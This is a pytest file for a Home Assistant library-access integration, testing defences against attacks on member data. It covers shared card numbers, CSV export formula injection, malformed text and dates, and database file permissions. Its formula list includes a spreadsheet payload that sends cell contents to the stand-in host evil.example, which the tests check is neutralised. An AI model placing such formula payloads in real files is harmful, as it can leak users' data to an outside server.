"""Attacks on the member data through the admin actions, each tried as the issue found it.

One card with two holders (barring the member left the staff card opening the door); an export
that a spreadsheet runs as formulas; a CSV field over 131,072 characters, a lone surrogate in a
name and a booking ending 9999-12-31 answered with tracebacks; a world-readable member database;
refused-row sentences of a large bad import built on the event loop.
"""

from __future__ import annotations

import csv
from datetime import date, timedelta
import io
from pathlib import Path
import threading
from typing import Any

from homeassistant.core import HomeAssistant
from homeassistant.exceptions import ServiceValidationError
from homeassistant.helpers import device_registry as dr
from homeassistant.util import dt as dt_util
import pytest
from pytest_homeassistant_custom_component.common import MockConfigEntry

from custom_components.smart_library.access.decisions import store_path
from custom_components.smart_library.const import DOMAIN
from custom_components.smart_library.services import members as member_services

MEMBER = "21234000000001"
STAFF_CARD = "21234000000077"
PIN = "80417263"
STAFF_PIN = "97531"


async def call(hass: HomeAssistant, service: str, data: dict[str, Any]) -> Any:
    """Call one of the integration's actions as an admin; return its response."""
    return await hass.services.async_call(
        DOMAIN, service, data, blocking=True, return_response=True
    )


def branch_device(hass: HomeAssistant) -> str:
    """Return the device id of the Oadby branch."""
    entry = hass.config_entries.async_entries(DOMAIN)[0]
    device = dr.async_get(hass).async_get_device_by_identifier(
        (DOMAIN, "branch_oadby"), entry.entry_id
    )
    assert device is not None
    return device.id


def member_data(card: str, **extra: Any) -> dict[str, Any]:
    """Return enroll_member data for an inducted adult with PIN `PIN`."""
    today = dt_util.now().date()
    return {
        "card": card,
        "birth_date": date(1970, 1, 1),
        "card_expiry": today + timedelta(days=365),
        "induction_date": today,
        "pin": PIN,
    } | extra


STAFF_DATA = {
    "name": "Night security",
    "role": "security",
    "windows": "00:00-23:59",
    "pin": STAFF_PIN,
}


async def ask(hass: HomeAssistant, card: str, pin: str) -> str:
    """Ask for the entrance; return the reason."""
    answer = await call(
        hass,
        "request_access",
        {"branch": branch_device(hass), "card": card, "pin": pin},
    )
    return str(answer["reason"])


async def refused(hass: HomeAssistant, service: str, data: dict[str, Any]) -> str:
    """Call an action that must be refused; return its translation key (the message checked)."""
    with pytest.raises(ServiceValidationError) as err:
        await call(hass, service, data)
    assert err.value.translation_domain == DOMAIN
    key = str(err.value.translation_key)
    assert str(err.value) and str(err.value) != key  # a sentence, not the bare key
    return key


@pytest.fixture
async def library(hass: HomeAssistant, init_integration: MockConfigEntry) -> None:
    """Enroll a member; add a staff card of another number."""
    await call(hass, "enroll_member", member_data(MEMBER))
    await call(hass, "add_staff_card", STAFF_DATA | {"card": STAFF_CARD})


async def exported(hass: HomeAssistant) -> str:
    """Return the member export."""
    return str((await call(hass, "export_members", {}))["csv"])


@pytest.mark.usefixtures("library")
async def test_one_card_cannot_have_two_holders(hass: HomeAssistant) -> None:
    """A member's number is refused as a staff card, a staff card's as a member, on import too.

    So barring a member cannot be dodged by a staff card of the same number: the bar holds.
    """
    assert await refused(hass, "enroll_member", member_data(STAFF_CARD)) == (
        "card_is_staff"
    )
    report = await call(
        hass,
        "import_members",
        {"csv": f"card,birth_date,card_expiry\n{STAFF_CARD},1980-01-01,2030-01-01\n"},
    )
    assert report["taken"] == 0
    (row,) = report["refused"]
    assert (row["reason"], row["card"]) == ("card_is_staff", "••••0077")
    assert row["message"] and row["message"] != "card_is_staff"

    today = dt_util.now().date()
    await call(
        hass,
        "bar_member",
        {"card": MEMBER, "reason": "x", "review_date": today + timedelta(days=30)},
    )
    assert await refused(hass, "add_staff_card", STAFF_DATA | {"card": MEMBER}) == (
        "card_is_a_member"
    )
    await hass.services.async_call(
        "select",
        "select_option",
        {"entity_id": "select.oadby_library_mode_override", "option": "smart"},
        blocking=True,
    )
    assert await ask(hass, MEMBER, PIN) == "barred"
    assert await ask(hass, MEMBER, STAFF_PIN) == "wrong_pin"
    assert await ask(hass, STAFF_CARD, STAFF_PIN) == "staff"  # the staff card is intact


FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Renew your card")',
    "+44 116 000 0000",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=quoted already",
]


@pytest.mark.usefixtures("library")
async def test_the_export_runs_no_formula_and_imports_back_the_same(
    hass: HomeAssistant,
) -> None:
    """Names that would run as formulas leave neutralised and come back exactly as they were."""
    cards = [f"2123400000020{n}" for n in range(len(FORMULA_NAMES))]
    for card, name in zip(cards, FORMULA_NAMES, strict=True):
        await call(hass, "enroll_member", member_data(card, name=name))
    text = await exported(hass)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    for card in [MEMBER, *cards]:
        await call(hass, "remove_member", {"card": card})
    report = await call(hass, "import_members", {"csv": text})
    assert (report["taken"], report["refused"]) == (len(cards) + 1, [])
    assert await exported(hass) == text
    entry = hass.config_entries.async_entries(DOMAIN)[0]
    store = entry.runtime_data.access.store
    names = [
        (await hass.async_add_executor_job(store.require, card)).name for card in cards
    ]
    assert names == FORMULA_NAMES


@pytest.mark.usefixtures("library")
@pytest.mark.parametrize(
    ("service", "data", "key"),
    [
        (
            "import_members",
            {
                "csv": "card,name,birth_date,card_expiry\n"
                f"21234000000301,{'x' * 131_073},1980-01-01,2030-01-01\n"
            },
            "import_field_too_long",
        ),
        (
            "enroll_member",
            member_data("21234000000302", name="Ann \ud800"),
            "invalid_text",
        ),
        (
            "bar_member",
            {"card": MEMBER, "reason": "\udfff", "review_date": date(2099, 1, 1)},
            "invalid_text",
        ),
        (
            "add_staff_card",
            STAFF_DATA | {"card": "S0303", "name": "\ud800"},
            "invalid_text",
        ),
        ("book_room", {"end": "9999-12-31T23:59:59"}, "booking_too_long"),
        (
            "book_room",
            {"start": "9999-12-31T22:00:00", "end": "9999-12-31T23:59:59"},
            "booking_too_far_ahead",
        ),
        (
            "book_room",
            {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00"},
            "booking_in_past",
        ),
    ],
)
async def test_bad_input_is_a_translated_error_and_changes_nothing(
    hass: HomeAssistant, service: str, data: dict[str, Any], key: str
) -> None:
    """Each input that used to raise a traceback is refused with its own sentence."""
    if service == "book_room":
        start = dt_util.now() + timedelta(hours=1)
        data = {
            "branch": branch_device(hass),
            "card": MEMBER,
            "start": start.isoformat(),
        } | data
    entry = hass.config_entries.async_entries(DOMAIN)[0]
    store = entry.runtime_data.access.store
    members, bookings = (
        await exported(hass),
        await hass.async_add_executor_job(store.bookings, "branch_oadby"),
    )
    staff = await hass.async_add_executor_job(store.staff, "S0303")
    assert await refused(hass, service, data) == key
    assert await exported(hass) == members
    assert await hass.async_add_executor_job(store.bookings, "branch_oadby") == bookings
    assert await hass.async_add_executor_job(store.staff, "S0303") == staff is None


@pytest.mark.usefixtures("library")
async def test_unstorable_text_in_the_opening_hours_is_refused(
    hass: HomeAssistant,
) -> None:
    """A lone surrogate in an exception's label or an event's title is refused, hours kept."""
    hours = (
        hass.config_entries.async_entries(DOMAIN)[0]
        .runtime_data.branches["branch_oadby"]
        .hours
    )
    before = hours.schedule.to_dict()
    branch = {"branch": branch_device(hass)}
    now = dt_util.now()
    for service, data in (
        ("add_exception", branch | {"date": now.date(), "label": "Closed \ud800"}),
        (
            "add_event",
            branch | {"title": "\udfff", "start": now, "end": now + timedelta(hours=1)},
        ),
    ):
        with pytest.raises(ServiceValidationError) as err:
            await hass.services.async_call(DOMAIN, service, data, blocking=True)
        assert err.value.translation_key == "invalid_text"
    assert hours.schedule.to_dict() == before


@pytest.mark.usefixtures("library")
async def test_the_member_database_is_private(
    hass: HomeAssistant, init_integration: MockConfigEntry
) -> None:
    """The store and its WAL are 0600, their folder 0700 (was: 0644, readable by anyone)."""
    path = store_path(hass, init_integration.entry_id)
    files = [p for p in path.parent.iterdir() if p.name.startswith(path.name)]
    assert {p.name for p in files} >= {path.name, f"{path.name}-wal"}
    assert {p.name: p.stat().st_mode & 0o777 for p in files} == {
        p.name: 0o600 for p in files
    }
    assert Path(path.parent).stat().st_mode & 0o777 == 0o700


@pytest.mark.usefixtures("library")
async def test_refused_rows_are_described_off_the_event_loop(
    hass: HomeAssistant, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The sentence of each refused row is written in the executor, not on the event loop."""
    threads: list[bool] = []
    real = member_services.refused_message

    def spy(messages: dict[str, str], reason: str) -> str:
        threads.append(threading.get_ident() == hass.loop_thread_id)
        return real(messages, reason)

    monkeypatch.setattr(member_services, "refused_message", spy)
    rows = "".join(f"2123450000{n:04},not a date,2030-01-01\n" for n in range(500))
    report = await call(
        hass, "import_members", {"csv": "card,birth_date,card_expiry\n" + rows}
    )
    assert len(report["refused"]) == 500
    assert report["refused"][0]["message"] == "The birth date is not a date"
    assert threads == [False] * 500
